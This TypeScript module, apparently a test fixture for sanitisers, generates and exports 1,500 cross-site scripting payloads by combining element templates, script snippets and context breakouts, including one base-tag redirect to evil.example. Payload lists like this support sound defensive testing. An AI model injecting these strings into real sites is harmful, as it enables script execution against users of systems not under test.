// Each marks with the class `xss` what it would add to a page that takes text for HTML.
const elements: ((code: string) => string)[] = [
  (code) => `<img class=xss src=x onerror=${code}>`,
  (code) => `<svg class=xss onload=${code}>`,
  (code) => `<svg class=xss><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<iframe class=xss srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe class=xss src="javascript:${code}">`,
  (code) => `<details class=xss open ontoggle=${code}>`,
  (code) => `<input class=xss autofocus onfocus=${code}>`,
  (code) => `<body class=xss onpageshow=${code}>`,
  (code) => `<a class=xss href="javascript:${code}">x</a>`,
  (code) => `<math class=xss><mtext><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<script class=xss>${code}</script>`,
  (code) => `<object class=xss data="javascript:${code}">`,
  (code) => `<embed class=xss src="javascript:${code}">`,
  (code) => `<form class=xss action="javascript:${code}"><button autofocus>`,
  (code) => `<video class=xss><source onerror=${code}>`,
  (code) => `<audio class=xss src=x onerror=${code}>`,
  (code) => `<marquee class=xss onstart=${code}>`,
  (code) => `<b class=xss style="animation-name:x" onanimationstart=${code}>`,
  (code) => `<meta class=xss http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<link class=xss rel=stylesheet href="javascript:${code}">`,
  (code) => `<base class=xss href="//evil.example/" title=${code}>`,
  (code) => `<template class=xss><img src=x onerror=${code}></template>`,
  (code) => `<select class=xss autofocus onfocus=${code}>`,
  (code) => `<p class=xss onpointerover=${code}>x`,
  (code) => `<noscript class=xss><p title="</noscript><img src=x onerror=${code}>">`,
];
const codes = [
  "alert(1)",
  "alert`1`",
  "confirm(1)",
  "top.prompt(1)",
  "Function('alert(1)')()",
  "&#97;lert(1)",
];
const places: ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'-alert(1)-'${element}`,
  (element) => `</textarea>${element}`,
  (element) => `</title></style></script>${element}`,
  (element) => `--!>${element}`,
  (element) => `]]>${element}`,
  (element) => `{{constructor.constructor('alert(1)')()}}${element}`,
  (element) => `\${alert(1)}${element.toUpperCase()}`,
  (element) => element.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

/** 1,500 texts that would run a script, or add an element, wherever text is taken for code or for HTML. */
export const hostilePayloads: readonly string[] = elements.flatMap((element) =>
  codes.flatMap((code) => places.map((place) => place(element(code)))),
);

/** 200 of them: each element, code and place several times. */
export const hostileSample: readonly string[] = hostilePayloads
  .filter((_, number) => number % 7 === 0)
  .slice(0, 200);
